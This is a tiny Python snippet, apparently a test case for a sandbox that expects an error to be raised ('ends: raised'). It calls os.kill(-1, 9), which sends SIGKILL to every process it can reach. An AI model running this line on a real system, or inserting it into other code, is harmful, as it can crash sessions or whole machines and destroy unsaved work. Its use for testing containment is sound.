# Kills every process that it may.
# ends: raised
import os

os.kill(-1, 9)
